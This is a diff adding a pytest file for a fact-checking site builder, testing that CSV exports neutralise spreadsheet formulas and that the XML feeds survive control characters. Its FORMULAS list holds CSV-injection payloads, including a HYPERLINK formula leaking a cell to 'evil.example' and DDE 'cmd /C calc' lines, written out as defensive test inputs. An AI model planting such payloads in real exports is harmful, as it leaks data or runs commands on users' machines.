@@ -1,0 +1,128 @@
+"""The data exports hold whatever text a newsroom or an imported sheet wrote, and stay safe to
+open: no claims.csv cell runs as a spreadsheet formula (OWASP "CSV injection"), and feed.xml and
+sitemap.xml stay well-formed XML whatever control characters the text carries."""
+
+from __future__ import annotations
+
+import csv
+import io
+import xml.etree.ElementTree as ET
+from pathlib import Path
+
+import pytest
+from helpers import REVIEWER, write_project
+
+from factcheck.build import build_site
+from factcheck.exports import spreadsheet_safe, xml_chars
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+# Every character XML 1.0 forbids that YAML's double-quoted escapes can make (YAML itself
+# refuses them raw), and the non-characters U+FFFE and U+FFFF.
+CONTROLS = "".join(chr(c) for c in [*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20)])
+CONTROLS += "\ufffe\uffff"
+
+
+def _yaml_escaped(text: str) -> str:
+    """``text`` as a YAML double-quoted scalar, every character escaped."""
+    return '"' + "".join(f"\\U{ord(c):08x}" for c in text) + '"'
+
+
+def _project(root: Path, *, summary: str, claimant: str, headline: str, title: str) -> Path:
+    return write_project(
+        root,
+        {
+            "factcheck.yaml": (
+                f"title: {title}\nbase_url: https://check.example.org/\n"
+                f"description: {title}\norganization:\n  name: {title}\n"
+                "ratings:\n  - id: misleading\n    label: Misleading\n    value: 2\n"
+                "review:\n  min_reviewers: 1\n"
+            ),
+            "content/claims/the-claim.md": (
+                f"---\nsummary: {summary}\nclaimant: {claimant}\ndate: 2026-03-10\n"
+                f"tags: [{claimant}]\n---\n"
+            ),
+            "content/reviewers/sam.md": REVIEWER,
+            "content/verdicts/the-claim/sam.md": (
+                "---\nclaim: the-claim\nreviewer: sam\nrating: misleading\nstatus: approved\n"
+                f"date: 2026-03-12\nheadline: {headline}\n---\nReasons.\n"
+            ),
+        },
+    )
+
+
+@pytest.fixture(scope="module")
+def formula_csv(tmp_path_factory: pytest.TempPathFactory) -> str:
+    """claims.csv of a site with one published claim per formula, the formula in its summary,
+    claimant and headline (and the separator case of the next test)."""
+    root = tmp_path_factory.mktemp("formulas")
+    files: dict[str, str] = {"content/reviewers/sam.md": REVIEWER}
+    for index, formula in enumerate([*FORMULAS, "a;=1+1"]):
+        quoted = _yaml_escaped(formula)
+        files[f"content/claims/c{index}.md"] = (
+            f"---\nsummary: {quoted}\nclaimant: {quoted}\ndate: 2026-03-10\n---\n"
+        )
+        files[f"content/verdicts/c{index}.md"] = (
+            f"---\nclaim: c{index}\nreviewer: sam\nrating: accurate\nstatus: approved\n"
+            f"date: 2026-03-12\nheadline: {quoted}\n---\nReasons.\n"
+        )
+    project = write_project(root / "p", files)
+    result = build_site(project, output=root / "site", search=False)
+    assert result.ok, result.diagnostics.format_text()
+    return (root / "site" / "claims.csv").read_bytes().decode("utf-8")
+
+
+@pytest.mark.parametrize("index", range(len(FORMULAS)))
+def test_no_csv_cell_starts_a_formula(formula_csv: str, index: int) -> None:
+    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(formula_csv, newline=""))}
+    row = rows[f"c{index}"]
+    for column in ("summary", "claimant", "headline"):
+        assert row[column] == "'" + FORMULAS[index], column  # read back: shown as text
+    for cell in (c for line in csv.reader(io.StringIO(formula_csv, newline="")) for c in line):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+def test_csv_text_cells_are_quoted_so_no_separator_starts_a_new_cell(formula_csv: str) -> None:
+    # A spreadsheet set to split on ';' would read an unquoted "a;=1+1" as two cells, the
+    # second a formula.
+    header, *rows = formula_csv.split("\r\n")
+    assert header.startswith('"id","summary",')
+    assert any(row.startswith(f'"c{len(FORMULAS)}","a;=1+1",') for row in rows)
+
+
+def test_numbers_and_ordinary_text_are_left_alone() -> None:
+    assert spreadsheet_safe(-2) == -2
+    assert spreadsheet_safe(2.5) == 2.5
+    assert spreadsheet_safe("Mayor's office") == "Mayor's office"
+    assert spreadsheet_safe("") == ""
+    assert spreadsheet_safe("a=b") == "a=b"
+
+
+def test_control_characters_never_make_the_feed_or_sitemap_invalid(tmp_path: Path) -> None:
+    quoted = _yaml_escaped(f"A{CONTROLS}B")
+    root = _project(tmp_path / "p", summary=quoted, claimant=quoted, headline=quoted, title=quoted)
+    result = build_site(root, output=tmp_path / "site", search=False)
+    assert result.ok, result.diagnostics.format_text()
+    atom = "{http://www.w3.org/2005/Atom}"
+    feed = ET.parse(tmp_path / "site" / "feed.xml").getroot()  # raises if not well-formed
+    assert feed.find(f"{atom}title").text == "AB"
+    assert feed.find(f"{atom}subtitle").text == "AB"
+    (entry,) = feed.findall(f"{atom}entry")
+    assert entry.find(f"{atom}title").text == "AB"
+    assert entry.find(f"{atom}summary").text == "Misleading: AB"
+    sitemap = ET.parse(tmp_path / "site" / "sitemap.xml").getroot()
+    assert len(sitemap) > 3
+
+
+def test_xml_chars_keeps_everything_xml_allows() -> None:
+    allowed = "\t\n\r -~\u0085\u00a0\ud7ff\ue000\ufffd\U00010000\U0010ffff é 漢字"
+    assert xml_chars(allowed) == allowed
+    assert xml_chars(CONTROLS) == ""
+    assert xml_chars("a\x00b\x1bc\ufffed") == "abcd"
